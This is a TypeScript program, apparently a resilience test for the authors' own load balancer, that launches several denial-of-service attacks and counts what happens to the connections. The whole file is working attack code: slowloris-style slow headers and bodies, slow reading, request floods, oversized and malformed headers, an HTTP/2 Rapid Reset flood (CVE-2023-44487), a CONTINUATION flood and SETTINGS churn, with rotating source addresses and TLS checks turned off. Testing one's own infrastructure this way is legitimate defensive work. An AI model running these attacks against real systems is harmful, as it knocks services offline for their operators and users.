import { Agent, get } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { connect as connectTls } from "node:tls";

// A program of its own, so that what it does takes no time of the visitor who is measured meanwhile. It attacks one load
// balancer of ours, for a few seconds, and prints what became of that.

/** What to do, as the program's argument in JSON. */
export interface Orders {
  readonly attack: keyof typeof attacks;
  readonly target: string;
  /** Addresses of this machine, which take turns. */
  readonly from: readonly string[];
  /** How many connections, or clients. */
  readonly count: number;
  readonly seconds: number;
}

/** What the program prints, in JSON. */
export interface Outcome {
  /** Connections that were open at the end. */
  open: number;
  /** Connections that the other side ended, or never served. */
  ended: number;
  /** Answers by their status. */
  answers: Record<string, number>;
}

const outcome: Outcome = { open: 0, ended: 0, answers: {} };

function count(status: string | number): void {
  outcome.answers[status] = (outcome.answers[status] ?? 0) + 1;
}

function follow(socket: Socket): void {
  socket.on("error", () => {});
  let isOpen = false;
  socket.on("connect", () => {
    isOpen = true;
    outcome.open++;
  });
  socket.on("close", () => {
    outcome.ended++;
    outcome.open -= isOpen ? 1 : 0;
  });
}

/**
 * Opens so many connections, 400 every 50 ms, and says something on each, again and again.
 *
 * @param reads whether it reads before the last second
 */
async function many(
  { target, from, count: connections, seconds }: Orders,
  port: number,
  begin: string | Buffer,
  again?: { bytes: string; everyMs: number },
  reads = true,
): Promise<void> {
  for (let index = 0; index < connections; index++) {
    const socket = connect({ host: target, port, localAddress: from[index % from.length] });
    follow(socket);
    socket.on("data", (data) => {
      for (const [, status] of data.toString("latin1").matchAll(/HTTP\/1\.1 (\d{3})/g)) {
        count(status as string);
      }
    });
    if (!reads) {
      socket.pause();
      setTimeout(() => socket.resume(), (seconds - 1) * 1000);
    }
    socket.on("connect", () => {
      if (begin.length > 0) {
        socket.write(begin);
      }
      if (again !== undefined) {
        const timer = setInterval(() => socket.write(again.bytes), again.everyMs);
        socket.on("close", () => clearInterval(timer));
      }
    });
    if (index % 400 === 399) {
      await pause(50);
    }
  }
}

const post = (length: number) =>
  `POST /api/entries HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;

const STATIC = "GET /static/guestbook.css HTTP/1.1\r\nHost: test\r\n\r\n";

/** A frame of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** The first bytes of an HTTP/2 connection: the preface, and empty SETTINGS. */
const HTTP2_BEGIN = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame(4, 0, 0, Buffer.alloc(0)),
]);

/** Says HTTP/2 over TLS on each connection: a beginning, then the same bytes for as long as they are taken. */
function floodHttp2({ target, from, count: connections }: Orders, begin: Buffer, more: Buffer) {
  for (let index = 0; index < connections; index++) {
    const raw = connect({ host: target, port: 443, localAddress: from[index % from.length] });
    follow(raw);
    const socket = connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
    socket.on("error", () => {});
    socket.resume();
    socket.on("secureConnect", () => {
      socket.write(Buffer.concat([HTTP2_BEGIN, begin]));
      const go = () => {
        if (!socket.destroyed) {
          socket.write(more, () => setImmediate(go));
        }
      };
      go();
    });
  }
}

/** A request for /api/entries that ends at once, in HPACK (RFC 7541), and the code with which it is taken back (CANCEL). */
const REQUEST = Buffer.concat([Buffer.from([0x82, 0x87, 0x04, 12]), Buffer.from("/api/entries")]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** Requests that are each taken back at once (CVE-2023-44487), on connection after connection. */
async function resetRapidly({ target, from, seconds }: Orders): Promise<void> {
  const until = Date.now() + seconds * 1000;
  for (let index = 0; Date.now() < until; index++) {
    await new Promise<void>((resolve) => {
      const raw = connect({ host: target, port: 443, localAddress: from[index % from.length] });
      follow(raw);
      const end = setTimeout(() => raw.destroy(), until - Date.now());
      raw.on("close", () => {
        clearTimeout(end);
        setTimeout(resolve, 50);
      });
      const socket = connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
      socket.on("error", () => raw.destroy());
      socket.on("end", () => raw.destroy());
      socket.resume();
      socket.on("secureConnect", () => {
        socket.write(HTTP2_BEGIN);
        let stream = 1;
        const go = () => {
          if (socket.destroyed || raw.destroyed) {
            return;
          }
          const frames: Buffer[] = [];
          for (let some = 0; some < 100; some++) {
            frames.push(frame(1, 5, stream, REQUEST), frame(3, 0, stream, CANCEL));
            stream += 2;
            count("taken back");
          }
          socket.write(Buffer.concat(frames), () => setImmediate(go));
        };
        go();
      });
    });
  }
}

/** The pages that a person loads, and what is on them. */
const PAGE = ["/", "/static/guestbook.css", "/static/guestbook.js", "/api/entries", "/api/whoami"];

function load(agent: Agent, url: string): Promise<void> {
  return new Promise((resolve) => {
    const request = get(url, { agent }, (response) => {
      count(response.statusCode as number);
      response.resume();
      response.on("close", resolve);
    });
    request.on("error", (error) => {
      count(error.message);
      resolve();
    });
  });
}

/** People at one address: each opens a page once, somewhen, and keeps the connections that a browser keeps. */
async function people({ target, from, count: number, seconds }: Orders): Promise<void> {
  const visits = Array.from({ length: number }, async (_, index) => {
    await pause((index / number) * (seconds - 2) * 1000);
    const agent = new Agent({ keepAlive: true, maxSockets: 6, localAddress: from[0] });
    const [page, ...parts] = PAGE.map((path) => `http://${target}${path}`);
    await load(agent, page as string);
    await Promise.all(parts.map((part) => load(agent, part)));
  });
  await Promise.all(visits);
}

const attacks = {
  idle: (orders: Orders) => many(orders, 80, ""),
  idleTls: (orders: Orders) => many(orders, 443, ""),
  slowHeaders: (orders: Orders) =>
    many(orders, 80, "GET / HTTP/1.1\r\nHost: test\r\nX-Slow: ", { bytes: "x", everyMs: 1000 }),
  slowBodies: (orders: Orders) => many(orders, 80, `${post(1000)}{`, { bytes: " ", everyMs: 1000 }),
  largeSlowBodies: (orders: Orders) =>
    many(orders, 80, `${post(900_000)}${" ".repeat(30_000)}`, { bytes: " ", everyMs: 1000 }),
  slowReading: (orders: Orders) => many(orders, 80, STATIC.repeat(500), undefined, false),
  flood: (orders: Orders) => many(orders, 80, STATIC.repeat(1000)),
  largeHeaders: (orders: Orders) =>
    many(orders, 80, `GET / HTTP/1.1\r\nHost: test\r\nX-Large: ${"x".repeat(100_000)}\r\n\r\n`),
  malformed: (orders: Orders) =>
    many(orders, 80, "GET  / HTTP/1.1\r\nHost: test\r\nNo colon\r\n\u0000: \r\n\r\n"),
  rapidReset: resetRapidly,
  // HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION (CVE-2024-27919 and its kind).
  continuations: (orders: Orders) =>
    floodHttp2(
      orders,
      frame(1, 0, 1, Buffer.from([0x82])),
      Buffer.concat(Array.from({ length: 50 }, () => frame(9, 0, 1, Buffer.from([0x84])))),
    ),
  // SETTINGS that widen and narrow the window of streams, which no browser does: HAProxy counts it as a glitch.
  settings: (orders: Orders) =>
    floodHttp2(
      orders,
      Buffer.alloc(0),
      Buffer.concat(
        Array.from({ length: 50 }, (_, index) =>
          frame(4, 0, 0, Buffer.from([0, 4, 0, 0, index % 2, 1])),
        ),
      ),
    ),
  people,
} as const;

async function main(): Promise<void> {
  const orders: Orders = JSON.parse(process.argv[2] as string);
  const over = pause(orders.seconds * 1000);
  await Promise.all([attacks[orders.attack](orders), over]);
  process.stdout.write(JSON.stringify(outcome), () => process.exit());
}

if (require.main === module) {
  void main();
}
